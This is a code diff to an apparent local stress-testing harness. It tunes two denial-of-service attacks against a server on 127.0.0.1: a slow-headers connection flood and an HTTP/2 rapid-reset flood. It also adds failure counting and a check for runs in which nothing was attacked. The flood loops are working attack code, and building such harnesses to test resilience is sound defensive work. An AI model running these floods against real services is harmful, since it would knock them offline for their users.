@@ -6,7 +6,9 @@ import { sleep } from "@muster/runtime";
 import type { Attack } from "../attack.ts";
 import { Attacker } from "../attacker.ts";
 
-const SLOW_CONNECTIONS = 1500;
+const SLOW_CONNECTIONS = 4300;
+const OPENED_AT_ONCE = 300;
+const OPEN_EVERY_MS = 100;
 const RESETS_AT_ONCE = 40;
 const RESETS_MAX = 50_000;
 
@@ -40,9 +42,8 @@ const slowHeaders: Attack = {
         });
       };
       while (!signal.aborted) {
-        for (let i = 0; sockets.size < SLOW_CONNECTIONS && i < 100; i++) open();
-        for (const socket of sockets) socket.write("a");
-        await sleep(100, signal);
+        for (let i = 0; sockets.size < SLOW_CONNECTIONS && i < OPENED_AT_ONCE; i++) open();
+        await sleep(OPEN_EVERY_MS, signal);
       }
       for (const socket of sockets) socket.destroy();
       return counts;
@@ -69,7 +70,7 @@ const rapidReset: Attack = {
     };
     const open = (): TLSSocket => connectTls(options as ConnectionOptions); // its types leave localAddress out
     return async (signal) => {
-      const counts = { reset: 0, connections: 0 };
+      const counts = { reset: 0, connections: 0, failed: 0 };
       while (!signal.aborted && counts.reset < RESETS_MAX) {
         const session = connectHttp2(`https://127.0.0.1:${port}`, { createConnection: open });
         session.on("error", () => undefined);
@@ -80,7 +81,7 @@ const rapidReset: Attack = {
           ),
           sleep(2000).then(() => false),
         ]);
-        counts.connections++;
+        counts[ready ? "connections" : "failed"]++;
         while (ready && !signal.aborted && !session.closed && !session.destroyed && counts.reset < RESETS_MAX) {
           for (let i = 0; i < RESETS_AT_ONCE && !session.closed && !session.destroyed; i++) {
             const stream = session.request({ ":path": "/v1/modes" });
@@ -96,6 +97,8 @@ const rapidReset: Attack = {
       return counts;
     };
   },
+  broken: ({ connections = 0 }) =>
+    connections > 0 ? undefined : "no HTTP/2 connection could be had: nothing was attacked",
 };
 
 export const httpFloods: readonly Attack[] = [slowHeaders, rapidReset];
